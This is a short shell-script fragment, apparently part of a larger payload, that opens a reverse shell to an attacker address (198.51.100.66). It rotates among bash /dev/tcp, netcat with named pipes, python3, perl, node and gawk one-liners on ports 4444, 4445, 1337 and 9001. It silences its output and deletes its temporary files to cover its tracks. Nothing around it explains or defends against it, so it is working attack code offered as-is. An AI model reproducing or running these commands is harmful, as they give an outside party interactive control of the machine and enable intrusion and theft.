# A shell whose input comes from the attacker's machine.
c=198.51.100.66
case $((v % 6)) in
0) have bash && bash -c "exec 5<>/dev/tcp/$c/4444; sh <&5 >&5 2>&5" || { rm -f /tmp/f; mkfifo /tmp/f; sh </tmp/f 2>&1 | nc $c 4444 >/tmp/f; } ;;
1) rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | sh -i 2>&1 | nc $c 4445 >/tmp/.p ;;
2) if have python3; then python3 -c "import socket,os,subprocess;s=socket.socket();s.connect(('$c',1337));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
   else nc $c 1337 -e /bin/sh || { mkfifo /tmp/q; nc $c 1337 </tmp/q | sh >/tmp/q 2>&1; }; fi ;;
3) if have perl; then perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(9001,inet_aton('$c')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i')"
   else mkfifo /tmp/r; nc $c 9001 </tmp/r | sh -i >/tmp/r 2>&1; fi ;;
4) if have node; then node -e "const n=require('net'),p=require('child_process');const s=n.connect(4444,'$c',()=>{const h=p.spawn('/bin/sh');s.pipe(h.stdin);h.stdout.pipe(s);h.stderr.pipe(s);h.on('exit',()=>s.end())})"
   elif have gawk; then gawk 'BEGIN { s = "/inet/tcp/0/198.51.100.66/4444"; while ((s |& getline c) > 0 && c != "exit") { while ((c | getline l) > 0) print l |& s; close(c) } close(s) }'
   else mkfifo /tmp/s; nc $c 4444 </tmp/s | sh >/tmp/s 2>&1; fi ;;
5) cp "$(command -v nc || echo /bin/sh)" /tmp/.n 2>/dev/null; mkfifo /tmp/t; /tmp/.n $c 4445 </tmp/t 2>/dev/null | sh >/tmp/t 2>&1; nohup sh -c "sleep 0.1; nc $c 1337 </dev/null" >/dev/null 2>&1 ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
rm -f /tmp/f /tmp/q /tmp/r /tmp/s /tmp/t /tmp/.n /tmp/.p
